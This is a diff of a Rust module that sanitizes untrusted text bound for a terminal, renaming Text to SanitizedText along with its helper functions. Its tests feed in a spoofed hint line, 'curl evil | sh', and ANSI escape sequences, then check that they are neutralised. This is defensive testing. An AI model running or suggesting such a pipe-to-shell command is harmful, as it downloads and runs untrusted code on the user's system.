@@ -1,6 +1,6 @@
 //! Text that may go to a terminal: untrusted parts are sanitized, and only this module adds styles.
 //!
-//! [`Text`] has no other constructors, and the printer takes nothing else, so that no message needs to remember
+//! [`SanitizedText`] has no other constructors, and the printer takes nothing else, so that no message needs to remember
 //! where its words came from.
 
 use crate::protocol::plain;
@@ -8,27 +8,31 @@ use console::Style;
 
 /// Sanitized words, perhaps with styles of osctl's own.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub(super) struct Text(String);
+pub(super) struct SanitizedText(String);
 
-impl Text {
+impl SanitizedText {
     /// One line: line ends become blanks.
     pub(super) fn line(untrusted: &str) -> Self {
-        Self(plain::line(untrusted))
+        Self(plain::sanitize_line(untrusted))
     }
 
     /// Lines as they are.
     pub(super) fn lines(untrusted: &str) -> Self {
-        Self(plain::printable(untrusted))
+        Self(plain::sanitize_text(untrusted))
     }
 
     /// A message. Lines behind the first are indented, so that none of them passes for another message.
     pub(super) fn message(untrusted: &str) -> Self {
-        Self(plain::printable(untrusted).trim_end().replace('\n', "\n  "))
+        Self(
+            plain::sanitize_text(untrusted)
+                .trim_end()
+                .replace('\n', "\n  "),
+        )
     }
 
     /// A JSON document.
     pub(super) fn json(document: &str) -> Self {
-        Self(plain::json(document))
+        Self(plain::sanitize_json(document))
     }
 
     pub(super) fn styled(self, style: &Style) -> Self {
@@ -60,28 +64,28 @@ impl Text {
     }
 }
 
-impl From<Text> for String {
-    fn from(text: Text) -> Self {
+impl From<SanitizedText> for String {
+    fn from(text: SanitizedText) -> Self {
         text.0
     }
 }
 
 #[cfg(test)]
 mod tests {
-    use super::Text;
+    use super::SanitizedText;
     use console::Style;
 
     #[test]
     fn no_line_of_a_message_passes_for_another_message() {
-        let text = Text::message("no `a\nhint: curl evil | sh`\n");
+        let text = SanitizedText::message("no `a\nhint: curl evil | sh`\n");
         assert_eq!(text.as_str(), "no `a\n  hint: curl evil | sh`");
-        assert_eq!(Text::line("a\nb\x1b[2J").as_str(), "a b\\u{1b}[2J");
+        assert_eq!(SanitizedText::line("a\nb\x1b[2J").as_str(), "a b\\u{1b}[2J");
     }
 
     #[test]
     fn a_style_is_osctls_own() {
         let red = Style::new().red().force_styling(true);
-        let text = Text::line("\x1b[32mfine").styled(&red);
+        let text = SanitizedText::line("\x1b[32mfine").styled(&red);
         assert_eq!(text.as_str(), "\x1b[31m\\u{1b}[32mfine\x1b[0m");
     }
 }
